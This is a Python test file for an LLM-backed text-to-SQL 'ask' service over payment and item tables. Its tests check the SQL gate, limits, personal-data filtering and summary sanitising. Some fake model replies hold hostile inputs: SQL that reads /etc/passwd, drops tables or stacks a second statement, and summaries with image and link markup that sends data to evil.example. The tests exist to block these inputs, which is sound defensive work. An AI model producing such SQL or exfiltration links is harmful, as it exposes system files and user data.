"""/api/ask's service with the real openai SDK against the loopback OpenAI server, over real
Delta gold tables built by the gold models: the prompt, the gate, the locked run, what the
summary call may see (no value by default, never personal data), and each error's status."""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import uuid
from collections.abc import AsyncIterator, Iterator
from decimal import Decimal
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest
from deltalake import write_deltalake

from shared.ai.ask import (
    AskPolicy,
    AskService,
    BadQuestion,
    GoldNotBuilt,
    NoSqlInReply,
    SqlFailed,
    SqlRefused,
    SqlTimedOut,
    check_question,
)
from shared.ai.ask_prompt import GoldColumn, GoldTable, describe_gold, extract_sql
from shared.ai.ask_rows import PERSONAL_COLUMNS, json_value
from shared.ai.errors import AiNotConfigured
from shared.ai.llm import OpenAiLlm
from shared.ai.locked_query import QueryLimits
from shared.ai.settings import load_ai_settings
from shared.batch.sql import duckdb_sql
from shared.pipeline.gold import load_models, parse_model
from shared.pipeline.lake import Lake
from tests.fakes.openai_server import (
    Completion,
    FakeOpenAI,
    Received,
    ServerError,
    open_llm,
    settings_for,
    words,
)

pytestmark = pytest.mark.unit

MODEL = "gpt-4o"
DAY = dt.date(2024, 5, 1)
# Cards as silver holds them: the pseudonym (HMAC hex) and the last four digits kept.
CARD_A = hashlib.sha256(b"card a").hexdigest()
CARD_B = hashlib.sha256(b"card b").hexdigest()
LAST4_A, LAST4_B = "7305", "9186"
# (merchant, account, card, last four, amount)
PAYMENTS = (
    ("m-aurora", "acct-ada", CARD_A, LAST4_A, "12.50"),
    ("m-aurora", "acct-ada", CARD_A, LAST4_A, "25.00"),
    ("m-aurora", "acct-bob", CARD_B, LAST4_B, "0.75"),
    ("m-borealis", "acct-bob", CARD_B, LAST4_B, "8.20"),
    ("m-borealis", "acct-ada", CARD_A, LAST4_A, "1.05"),
    ("m-cygnus", "acct-bob", CARD_B, LAST4_B, "99.99"),
)
ROW_VALUES = ("m-aurora", "m-borealis", "m-cygnus", "38.25", "9.25", "99.99")
PERSONAL_VALUES = (CARD_A, CARD_B, CARD_A.upper(), CARD_B.upper(), LAST4_A, LAST4_B)
# A gold model over personal columns, as one could be written one day.
CARD_SPEND = parse_model(
    "card_spend",
    "-- card_spend: what each card spent, by its pseudonym and its last four digits.\n"
    "-- keys: card_number\n"
    "-- empty_if_missing: silver.payment_transaction(card_number VARCHAR, card_last4 VARCHAR, "
    "amount DOUBLE)\n"
    "SELECT card_number, card_last4, count(*) AS txn_count,\n"
    "    CAST(sum(amount) AS DECIMAL(38, 2)) AS total_amount\n"
    "FROM silver.payment_transaction GROUP BY card_number, card_last4\n",
)
TOP_MERCHANTS = (
    "SELECT merchant_id, sum(total_amount) AS revenue, sum(txn_count) AS txns "
    "FROM gold.merchant_daily GROUP BY merchant_id ORDER BY revenue DESC"
)
SLOW = (
    "SELECT count(*) AS n FROM gold.item_popularity AS a CROSS JOIN gold.item_popularity AS b "
    "CROSS JOIN gold.item_popularity AS c WHERE a.views + b.views + c.views > 0"
)


def _silver_payments() -> pa.Table:
    columns = list(zip(*PAYMENTS, strict=True))
    count = len(PAYMENTS)
    return pa.table(
        {
            "transaction_id": [f"t-{i}" for i in range(count)],
            "account_id": columns[1],
            "card_number": columns[2],
            "card_last4": columns[3],
            "amount": pa.array([Decimal(a) for a in columns[4]], pa.decimal128(18, 2)),
            "currency": ["EUR"] * count,
            "merchant_id": columns[0],
            "merchant_category": ["5411"] * count,
            "country": ["FR"] * count,
            "channel": ["pos"] * count,
            "event_date": pa.array([DAY] * count, pa.date32()),
        }
    )


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Lake:
    """Gold tables built by their own models from small silver tables: merchant_daily and
    card_spend from six payments, item_popularity from 1,500 items (big enough to be slow when
    crossed with itself three times). item_pairs is not built."""
    root = tmp_path_factory.mktemp("lake")
    models = {**load_models(), "card_spend": CARD_SPEND}
    connection = duckdb.connect()
    connection.register("payments", _silver_payments())
    connection.execute(
        "CREATE VIEW interactions AS SELECT 'u-' || (i % 50) AS user_id, 'item-' || i AS item_id, "
        "'view' AS action, 's-' || (i % 100) AS session_id, "
        "TIMESTAMPTZ '2024-05-01 00:00:00+00' AS event_time FROM range(1500) AS r(i)"
    )
    silver = {"silver.payment_transaction": "payments", "silver.app_interaction": "interactions"}
    for name in ("merchant_daily", "card_spend", "item_popularity"):
        model = models[name]
        relations = {table: silver[table] for table in model.inputs}
        built = connection.sql(duckdb_sql(model.sql, relations)).to_arrow_table()
        write_deltalake(str(Path(root) / "gold" / name), built)
    connection.close()
    return Lake(str(root))


@pytest.fixture(scope="module")
def tables() -> tuple[GoldTable, ...]:
    return describe_gold({**load_models(), "card_spend": CARD_SPEND})


@pytest.fixture
def server() -> Iterator[FakeOpenAI]:
    with FakeOpenAI() as fake:
        yield fake


@pytest.fixture
async def llm(server: FakeOpenAI) -> AsyncIterator[OpenAiLlm]:
    async with open_llm(settings_for([server.deployment(MODEL)])) as port:
        yield port


def sql_reply(sql: str) -> Completion:
    return Completion(text=f"Here is the query:\n```sql\n{sql}\n```")


def sent_text(request: Received) -> str:
    """Every message of a request, as the upstream received it."""
    return "\n".join(str(message["content"]) for message in request.body["messages"])


def on_the_wire(server: FakeOpenAI) -> str:
    return "\n".join(json.dumps(request.body) for request in server.received(kind="chat"))


async def test_a_question_is_answered_from_a_gold_table(
    server: FakeOpenAI, llm: OpenAiLlm, lake: Lake
) -> None:
    summary = "Aurora leads with 38.25 EUR over 3 transactions."
    server.script(MODEL, sql_reply(TOP_MERCHANTS), Completion(text=summary))
    answer = await AskService(llm, lake).ask("  Which merchants sold the most?  ")
    assert answer.question == "Which merchants sold the most?"
    assert answer.sql == (
        "SELECT merchant_id, SUM(total_amount) AS revenue, SUM(txn_count) AS txns FROM "
        '"merchant_daily" GROUP BY merchant_id ORDER BY revenue DESC LIMIT 1001'
    )
    assert answer.tables == ("merchant_daily",) and answer.versions == {"merchant_daily": 0}
    assert answer.columns == ("merchant_id", "revenue", "txns")
    assert answer.rows == (
        ("m-cygnus", "99.99", 1),
        ("m-aurora", "38.25", 3),
        ("m-borealis", "9.25", 2),
    )
    assert (answer.row_count, answer.truncated, answer.rows_shared) == (3, False, False)
    assert answer.summary == summary and answer.summary_error is None
    assert (answer.model, answer.deployment) == (MODEL, MODEL)
    assert [call.purpose for call in answer.calls] == ["sql", "summary"]
    first, _ = server.received(kind="chat")
    sql_call, summary_call = answer.calls
    assert sql_call.usage is not None and summary_call.usage is not None
    assert sql_call.usage.prompt_tokens == words(sent_text(first))
    assert summary_call.usage.completion_tokens == words(summary)
    assert answer.prompt_tokens == sql_call.usage.prompt_tokens + summary_call.usage.prompt_tokens
    assert answer.timings.llm_ms > 0 and answer.timings.query_ms > 0
    assert answer.timings.total_ms >= answer.timings.llm_ms + answer.timings.query_ms
    assert json.loads(json.dumps(answer.to_json()))["rows"][1] == ["m-aurora", "38.25", 3]


async def test_the_prompt_describes_the_gold_tables_from_their_models(
    server: FakeOpenAI, llm: OpenAiLlm, lake: Lake, tables: tuple[GoldTable, ...]
) -> None:
    server.script(MODEL, sql_reply(TOP_MERCHANTS))
    await AskService(llm, lake, tables).ask("Which merchants sold the most?")
    first = server.received(kind="chat")[0].body
    system, user = first["messages"]
    assert (system["role"], user) == (
        "system",
        {"role": "user", "content": "Which merchants sold the most?"},
    )
    assert first["model"] == MODEL  # the configured chat model's deployment
    prompt = system["content"]
    assert "```sql" in prompt and "exactly one read-only query" in prompt
    for name in load_models():
        assert f"\n{name}: " in prompt
    assert "merchant_daily: each merchant's transactions per UTC day and currency.\n" in prompt
    assert "one row per merchant_id, day, currency" in prompt
    assert "total_amount DECIMAL(38,2)" in prompt and "day DATE" in prompt
    assert "the ingestion lag (hub enqueue to lake) percentiles in seconds.\n" in prompt
    assert "The lags are DOUBLE" not in prompt  # the first sentence only
    assert "card_number VARCHAR (pseudonym)" in prompt


async def test_by_default_the_summary_sees_no_value_of_the_rows(
    server: FakeOpenAI, llm: OpenAiLlm, lake: Lake, tables: tuple[GoldTable, ...]
) -> None:
    server.script(MODEL, sql_reply(TOP_MERCHANTS), Completion(text="Three merchants sold."))
    answer = await AskService(llm, lake, tables).ask("Which merchants sold the most?")
    assert set(ROW_VALUES) <= {str(value) for row in answer.rows for value in row}
    summary_request = server.received(kind="chat")[1]
    facts = json.loads(summary_request.body["messages"][1]["content"])
    assert facts == {
        "question": "Which merchants sold the most?",
        "sql": answer.sql,
        "columns": ["merchant_id", "revenue", "txns"],
        "row_count": 3,
        "cut_at_row_limit": False,
    }
    wire = on_the_wire(server)
    assert not [value for value in ROW_VALUES if value in wire]
    assert "not shown the rows" in sent_text(summary_request)


async def test_with_share_rows_the_summary_sees_the_first_rows(
    server: FakeOpenAI, llm: OpenAiLlm, lake: Lake, tables: tuple[GoldTable, ...]
) -> None:
    server.script(MODEL, sql_reply(TOP_MERCHANTS), Completion(text="Cygnus leads."))
    policy = AskPolicy(share_rows=True, max_shared_rows=2)
    answer = await AskService(llm, lake, tables, policy).ask("Which merchants sold the most?")
    assert answer.rows_shared
    facts = json.loads(server.received(kind="chat")[1].body["messages"][1]["content"])
    assert facts["shown_columns"] == ["merchant_id", "revenue", "txns"]
    assert facts["first_rows"] == [["m-cygnus", "99.99", 1], ["m-aurora", "38.25", 3]]
    assert "m-borealis" not in on_the_wire(server)


async def test_personal_columns_are_left_out_of_the_shared_rows(
    server: FakeOpenAI, llm: OpenAiLlm, lake: Lake, tables: tuple[GoldTable, ...]
) -> None:
    sql = "SELECT card_number, card_last4, total_amount FROM card_spend ORDER BY total_amount"
    server.script(MODEL, sql_reply(sql), Completion(text="Two cards."))
    policy = AskPolicy(share_rows=True)
    answer = await AskService(llm, lake, tables, policy).ask("What did each card spend?")
    assert answer.rows == ((CARD_A, LAST4_A, "38.55"), (CARD_B, LAST4_B, "108.94"))
    assert answer.rows_shared
    facts = json.loads(server.received(kind="chat")[1].body["messages"][1]["content"])
    assert facts["shown_columns"] == ["total_amount"]
    assert facts["first_rows"] == [["38.55"], ["108.94"]]
    wire = on_the_wire(server)
    assert not [value for value in PERSONAL_VALUES if value in wire]


@pytest.mark.parametrize(
    "sql",
    (
        "SELECT upper(card_number) AS card, total_amount FROM card_spend",
        "SELECT card_last4 || '' AS digits, txn_count FROM card_spend",
        "WITH c AS (SELECT card_number AS k, total_amount FROM card_spend) SELECT k, total_amount "
        "FROM c",
        "SELECT s FROM card_spend AS s",
        "SELECT COLUMNS('card.*') FROM card_spend",
        "SELECT count(DISTINCT card_number) AS cards FROM card_spend",
    ),
    ids=("upper", "concat", "cte-alias", "whole-row", "columns-regex", "count-distinct"),
)
async def test_rows_that_depend_on_personal_data_are_not_shared_at_all(
    sql: str, server: FakeOpenAI, llm: OpenAiLlm, lake: Lake, tables: tuple[GoldTable, ...]
) -> None:
    server.script(MODEL, sql_reply(sql), Completion(text="Cards spent."))
    policy = AskPolicy(share_rows=True)
    answer = await AskService(llm, lake, tables, policy).ask("What did each card spend?")
    assert answer.row_count > 0 and not answer.rows_shared
    facts = json.loads(server.received(kind="chat")[1].body["messages"][1]["content"])
    assert "first_rows" not in facts
    wire = on_the_wire(server)
    assert not [value for value in PERSONAL_VALUES if value in wire]


def test_a_model_that_cannot_be_typed_is_described_by_its_column_names() -> None:
    odd = parse_model("odd", "-- odd: from a table no spec knows.\nSELECT a, b AS c FROM silver.x")
    [table] = describe_gold({"odd": odd})
    assert table == GoldTable(
        "odd", "from a table no spec knows.", (), (GoldColumn("a", ""), GoldColumn("c", ""))
    )


def test_the_personal_columns_are_the_contracts_pii_fields() -> None:
    assert {"card_number", "card_last4"} <= PERSONAL_COLUMNS
    assert "account_id" not in PERSONAL_COLUMNS


@pytest.mark.parametrize(
    ("sql", "reason"),
    (
        ("DROP TABLE gold.merchant_daily", "only a SELECT"),
        ("SELECT * FROM read_csv('/etc/passwd')", "read_csv"),
        ("SELECT 1 AS one; DROP TABLE merchant_daily", "one statement"),
        ("SELECT * FROM silver.payment_transaction", "only gold tables"),
    ),
)
async def test_sql_the_gate_refuses_is_a_422_and_nothing_runs(
    sql: str,
    reason: str,
    server: FakeOpenAI,
    llm: OpenAiLlm,
    lake: Lake,
    tables: tuple[GoldTable, ...],
) -> None:
    server.script(MODEL, sql_reply(sql))
    with pytest.raises(SqlRefused) as refused:
        await AskService(llm, lake, tables).ask("Drop everything")
    assert refused.value.status == 422
    assert refused.value.sql == sql and reason in refused.value.reason
    assert len(server.received()) == 1, "no summary: nothing ran"
    merchant_daily = lake.open("gold", "merchant_daily")
    assert merchant_daily is not None and merchant_daily.version() == 0


async def test_a_reply_without_sql_is_a_502_quoting_it(
    server: FakeOpenAI, llm: OpenAiLlm, lake: Lake, tables: tuple[GoldTable, ...]
) -> None:
    reply = "With these tables I cannot tell [why](https://evil.example/?q=1)."
    server.script(MODEL, Completion(text=reply))
    with pytest.raises(NoSqlInReply) as no_sql:
        await AskService(llm, lake, tables).ask("Why is the sky blue?")
    assert no_sql.value.status == 502 and no_sql.value.sql is None
    assert no_sql.value.reply == "With these tables I cannot tell why."
    assert len(server.received()) == 1


@pytest.mark.parametrize(
    "question",
    (
        "",
        "   \n\t",
        None,
        42,
        b"Which merchant?",
        ["Which merchant?"],
        "x" * 2001,
        "a\x00b",
        "Which \u202emerchant",
        "lone \ud800 surrogate",
    ),
    ids=lambda v: repr(v)[:20],
)
async def test_a_bad_question_is_a_400_before_any_call(
    question: object, server: FakeOpenAI, llm: OpenAiLlm, lake: Lake
) -> None:
    with pytest.raises(BadQuestion) as bad:
        await AskService(llm, lake).ask(question)
    assert bad.value.status == 400
    assert server.requests == []


def test_a_question_may_be_as_long_as_the_limit_and_span_lines() -> None:
    assert check_question(" " + "x" * 2000 + " ") == "x" * 2000
    assert (
        check_question("Which merchant\tsold\nthe most? 売上")
        == "Which merchant\tsold\nthe most? 売上"
    )
    with pytest.raises(BadQuestion, match="longer than 10"):
        check_question("x" * 11, max_chars=10)


async def test_a_query_past_its_time_limit_is_a_504(
    server: FakeOpenAI, llm: OpenAiLlm, lake: Lake, tables: tuple[GoldTable, ...]
) -> None:
    server.script(MODEL, sql_reply(SLOW))
    policy = AskPolicy(limits=QueryLimits(timeout_s=0.2))
    with pytest.raises(SqlTimedOut) as timed_out:
        await AskService(llm, lake, tables, policy).ask("How many item triples are there?")
    assert timed_out.value.status == 504 and "LIMIT" in (timed_out.value.sql or "")
    assert len(server.received()) == 1


async def test_a_gold_table_not_built_yet_is_a_503(
    server: FakeOpenAI, llm: OpenAiLlm, lake: Lake, tables: tuple[GoldTable, ...]
) -> None:
    server.script(MODEL, sql_reply("SELECT item_a, item_b FROM gold.item_pairs"))
    with pytest.raises(GoldNotBuilt, match="item_pairs") as missing:
        await AskService(llm, lake, tables).ask("Which items go together?")
    assert missing.value.status == 503


async def test_sql_duckdb_refuses_is_a_422(
    server: FakeOpenAI, llm: OpenAiLlm, lake: Lake, tables: tuple[GoldTable, ...]
) -> None:
    server.script(MODEL, sql_reply("SELECT no_such_column FROM gold.merchant_daily"))
    with pytest.raises(SqlFailed, match="no_such_column") as failed:
        await AskService(llm, lake, tables).ask("What is in no_such_column?")
    assert failed.value.status == 422 and failed.value.sql is not None


async def test_an_unconfigured_llm_is_the_ports_503(lake: Lake) -> None:
    llm = OpenAiLlm(load_ai_settings({}))
    with pytest.raises(AiNotConfigured) as unconfigured:
        await AskService(llm, lake).ask("Which merchants sold the most?")
    assert unconfigured.value.status == 503
    await llm.aclose()


async def test_a_result_past_max_rows_is_cut_and_says_so(
    server: FakeOpenAI, llm: OpenAiLlm, lake: Lake, tables: tuple[GoldTable, ...]
) -> None:
    server.script(MODEL, sql_reply(TOP_MERCHANTS))
    policy = AskPolicy(limits=QueryLimits(max_rows=2))
    answer = await AskService(llm, lake, tables, policy).ask("Which merchants sold the most?")
    assert answer.sql.endswith("LIMIT 3")
    assert (answer.row_count, answer.truncated) == (2, True)
    facts = json.loads(server.received(kind="chat")[1].body["messages"][1]["content"])
    assert facts["cut_at_row_limit"] is True


async def test_the_summary_is_stripped_of_images_and_links(
    server: FakeOpenAI, llm: OpenAiLlm, lake: Lake, tables: tuple[GoldTable, ...]
) -> None:
    summary = (
        "Cygnus leads ![x](https://evil.example/?d=m-cygnus) per [the data](https://evil.example)"
        ' <img src="https://evil.example/p.png">.'
    )
    server.script(MODEL, sql_reply(TOP_MERCHANTS), Completion(text=summary))
    answer = await AskService(llm, lake, tables).ask("Which merchants sold the most?")
    assert answer.summary == "Cygnus leads  per the data ."


async def test_a_failed_summary_leaves_the_answer_without_one(
    server: FakeOpenAI, llm: OpenAiLlm, lake: Lake, tables: tuple[GoldTable, ...]
) -> None:
    server.script(MODEL, sql_reply(TOP_MERCHANTS), ServerError(500))
    answer = await AskService(llm, lake, tables).ask("Which merchants sold the most?")
    assert answer.summary is None and answer.summary_error
    assert answer.row_count == 3 and [call.purpose for call in answer.calls] == ["sql"]


@pytest.mark.parametrize(
    ("reply", "sql"),
    (
        ("```sql\nSELECT 1\n```", "SELECT 1"),
        ("Sure:\n```SQL\nSELECT a\nFROM t\n```\nThis sums it.", "SELECT a\nFROM t"),
        ("```duckdb\nSELECT 2\n```", "SELECT 2"),
        ("```\nSELECT 3\n```", "SELECT 3"),
        ("~~~sql\nSELECT 4\n~~~", "SELECT 4"),
        ("```python\nprint(1)\n```\n```sql\nSELECT 5\n```", "SELECT 5"),
        ("```sql\nSELECT 6\n```\n```sql\nDROP TABLE t\n```", "SELECT 6"),
        ("```sql\nSELECT 7 -- cut short", "SELECT 7 -- cut short"),
        ("  SELECT 8 FROM t;  ", "SELECT 8 FROM t;"),
        ("WITH x AS (SELECT 9) SELECT * FROM x", "WITH x AS (SELECT 9) SELECT * FROM x"),
        ("With these tables I cannot answer that.", None),
        ("Selecting is not possible here.", None),
        ("```python\nprint(1)\n```", None),
        ("```sql\n\n```", None),
        ("", None),
    ),
)
def test_the_sql_is_taken_from_the_reply(reply: str, sql: str | None) -> None:
    assert extract_sql(reply) == sql


@pytest.mark.parametrize(
    ("value", "wire"),
    (
        (Decimal("38.25"), "38.25"),
        (dt.date(2024, 5, 1), "2024-05-01"),
        (dt.datetime(2024, 5, 1, 13, tzinfo=dt.UTC), "2024-05-01T13:00:00+00:00"),
        (dt.timedelta(hours=1, seconds=1.5), "PT3601.5S"),
        (float("nan"), "nan"),
        (1.5, 1.5),
        (True, True),
        (None, None),
        (b"\x00\xff", "AP8="),
        (uuid.UUID(int=1), "00000000-0000-0000-0000-000000000001"),
        ([Decimal("1.10"), {"k": dt.date(2024, 1, 2)}], ["1.10", {"k": "2024-01-02"}]),
        ({1: "a"}, {"1": "a"}),
    ),
    ids=lambda v: type(v).__name__,
)
def test_values_become_json(value: object, wire: object) -> None:
    assert json_value(value) == wire
    json.dumps(json_value(value), allow_nan=False)
